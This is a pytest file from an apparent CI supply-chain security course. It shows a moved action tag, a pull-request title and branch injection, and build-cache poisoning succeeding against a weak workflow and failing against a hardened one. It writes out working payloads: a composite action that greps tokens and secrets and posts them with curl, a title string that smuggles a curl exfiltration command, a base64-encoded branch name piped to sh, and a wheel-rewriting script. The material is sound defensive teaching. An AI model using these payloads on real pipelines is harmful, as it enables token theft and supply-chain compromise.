"""Three documented attacks on the course's project: they succeed on its weak workflows, and fail on the hardened ones.

Whether one succeeded is read from the sink and the registry, never from a log.
"""

from __future__ import annotations

import base64
import io
import re
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from chainlab.ci.project import Project, PullRequest
from chainlab.course.exfiltration_sink import Sink
from chainlab.world import World

pytestmark = pytest.mark.usefixtures("walled")

STEAL = """\
name: changed-files
description: Which files did this change touch?
outputs:
  files:
    description: Their names.
    value: none
runs:
  using: composite
  steps:
    - shell: bash
      run: |
        { env | grep -E 'TOKEN|SECRET' ; cat .git/config ; } | curl --silent --noproxy '*' --data-binary @- %s || true
"""
# What the pull request puts in place of the size report: a newer version of a library, for whoever restores the cache.
POISON = '''
import zipfile
from pathlib import Path
good = next(Path(".wheels").glob("acme_quantise-*.whl"))
bad = Path(".wheels/acme_quantise-1.0.9-py3-none-any.whl")
with zipfile.ZipFile(good) as old, zipfile.ZipFile(bad, "w") as new:
    for name in old.namelist():
        data = old.read(name).replace(b"1.0.3", b"1.0.9")
        if name == "acme_quantise/__init__.py":
            data += b"""
from pathlib import Path as _Path
for _package in _Path("src").glob("triage_model"):
    (_package / "marker.txt").write_text("left by the poisoned cache")
"""
        if not name.endswith("RECORD"):
            new.writestr(name.replace("1.0.3", "1.0.9"), data)
    new.writestr("acme_quantise-1.0.9.dist-info/RECORD", "")
print("0 lines")
'''


@pytest.fixture
def walled(world: World) -> None:
    world.ci.sandbox.require()


def pull(
    project: Project,
    tmp_path: Path,
    *,
    branch: str = "typo",
    title: str = "A typo",
    files: dict[str, str],
) -> PullRequest:
    folder = tmp_path / "fork"
    shutil.copytree(project.folder, folder)
    for path, text in files.items():
        (folder / path).write_text(text)
    return project.pull_request(owner="mallory", branch=branch, folder=folder, title=title)


@pytest.fixture
def moved_tag(world: World, sink: Sink) -> None:
    """The owner of `acme/changed-files` lost a token: v3 points to a commit that steals."""
    world.ci.platform.mirror.reset()
    world.ci.platform.mirror.move_tag("acme/changed-files", "v3", {"action.yml": (STEAL % sink.url).encode()})


CI = Path(".github/workflows/ci.yml")


@pytest.fixture
def weak(triage: Callable[[str], Project], shorten: Callable[[Path], None]) -> Project:
    """The weak project without what only costs time: the attacks need neither tests nor training."""
    project = triage("weak")
    shorten(project.folder)
    project.commit("shorter")
    return project


@pytest.mark.usefixtures("moved_tag")
def test_a_moved_tag_steals_the_token_of_the_weak_workflow(weak: Project, sink: Sink, world: World) -> None:
    run = weak.run("push", workflow="ci.yml", ports=[sink.port])
    assert run.result == "success", run.log  # nobody sees anything
    (header,) = set(re.findall(r"[Bb]asic (\S+)", sink.text))
    stolen = base64.b64decode(header).decode().rpartition(":")[2]
    assert stolen.startswith("ghs_")
    assert "ACTIONS_ID_TOKEN_REQUEST_TOKEN=" in sink.text  # `write-all` includes the identity
    assert world.ci.platform.credentials.check(stolen) is None  # it died with the job


@pytest.mark.usefixtures("moved_tag")
def test_a_pinned_action_is_not_moved(weak: Project, sink: Sink, world: World) -> None:
    good = world.ci.platform.mirror.resolve("acme/changed-files@v3.0.0").commit
    text = (weak.folder / CI).read_text()
    pinned = text.replace("acme/changed-files@v3", f"acme/changed-files@{good}")
    assert pinned != text
    (weak.folder / CI).write_text(pinned)
    weak.commit("pin")
    assert weak.run("push", workflow="ci.yml", ports=[sink.port]).result == "success"
    assert sink.received == []


@pytest.mark.usefixtures("moved_tag")
def test_the_hardened_workflow_gives_a_moved_tag_nothing(triage: Callable[[str], Project], sink: Sink) -> None:
    project = triage("hardened")
    assert project.run("push", workflow="ci.yml", ports=[sink.port]).result == "success"
    assert sink.received == []


INJECTION = 'x"; curl --silent --noproxy \'*\' --data-binary "$(cat .git/config)" %s; echo "'


def test_a_title_runs_as_code_in_the_weak_workflow(weak: Project, sink: Sink, tmp_path: Path) -> None:
    change = pull(weak, tmp_path, title=INJECTION % sink.url, files={"README.md": "a typo"})
    weak.run("pull_request_target", pull=change, workflow="label.yml", ports=[sink.port])
    assert "extraheader" in sink.text.lower()


@pytest.mark.parametrize("where", ["title", "branch"])
def test_titles_and_branches_are_inert_in_the_hardened_workflow(
    triage: Callable[[str], Project], sink: Sink, tmp_path: Path, where: str
) -> None:
    project = triage("hardened")
    payload = base64.b64encode(f"curl -sS --noproxy '*' -d 1 {sink.url}".encode()).decode()
    branch = f"x$(echo${{IFS}}{payload}|base64${{IFS}}-d|sh)" if where == "branch" else "typo"
    title = INJECTION % sink.url if where == "title" else "A typo"
    change = pull(project, tmp_path, branch=branch, title=title, files={"README.md": "a typo"})
    run = project.run("pull_request", pull=change, workflow="label.yml", ports=[sink.port])
    assert run.result == "success", run.log
    assert sink.received == []
    assert title in run.summary


def poisoned(world: World, project: Project, change: PullRequest, event: str, rule: str) -> list[str]:
    """Scopes that hold a cache after the pull request's run."""
    world.ci.platform.cache.delete(project.repository)
    run = project.run(event, pull=change, workflow="bench.yml", cache_rule=rule)
    assert run.result == "success", run.log  # a pull request that looks well
    return [entry.scope for entry in world.ci.platform.cache.entries(project.repository)]


def wheel_of(world: World, project: Project, tag: str) -> set[str]:
    """Names in the wheel that a release published."""
    project.tag(tag)
    run = project.run("push", ref=f"refs/tags/{tag}", workflow="release.yml", approve=["release"])
    assert run.result == "success", run.log
    (name,) = (file for file in run.produced if file.endswith(".whl"))
    stored = world.registry.index.file("triage-model", name)
    with zipfile.ZipFile(io.BytesIO(world.registry.index.path(stored).read_bytes())) as wheel:
        return set(wheel.namelist())


def test_a_poisoned_cache_changes_what_the_weak_release_publishes(world: World, weak: Project, tmp_path: Path) -> None:
    change = pull(weak, tmp_path, files={"tests/size.py": POISON})
    main = "refs/heads/main"
    assert poisoned(world, weak, change, "pull_request_target", "current") == []
    assert poisoned(world, weak, change, "pull_request_target", "before-2026-06-26") == [main]
    assert "triage_model/marker.txt" in wheel_of(world, weak, "v1.4.0")


def test_a_pull_request_never_writes_the_default_branchs_cache(world: World, weak: Project, tmp_path: Path) -> None:
    bench = weak.folder / ".github/workflows/bench.yml"
    bench.write_text(bench.read_text().replace("pull_request_target:", "pull_request:"))
    weak.commit("on pull_request")
    change = pull(weak, tmp_path, files={"tests/size.py": POISON})
    for rule in ("before-2026-06-26", "current"):
        assert poisoned(world, weak, change, "pull_request", rule) == [f"refs/pull/{change.number}/merge"]


def test_the_hardened_release_restores_nothing(
    world: World, weak: Project, triage: Callable[[str], Project], tmp_path: Path
) -> None:
    change = pull(weak, tmp_path, files={"tests/size.py": POISON})
    assert poisoned(world, weak, change, "pull_request_target", "before-2026-06-26")
    shutil.rmtree(weak.folder)
    project = triage("hardened")
    pyproject = project.folder / "src/triage_model/__init__.py"
    pyproject.write_text(pyproject.read_text().replace("1.4.0", "1.4.1"))
    project.commit("1.4.1")
    before = world.registry.events.last
    assert "triage_model/marker.txt" not in wheel_of(world, project, "v1.4.1")
    assert list(world.registry.events.read("dev.chainlab.cache.restored", after=before)) == []
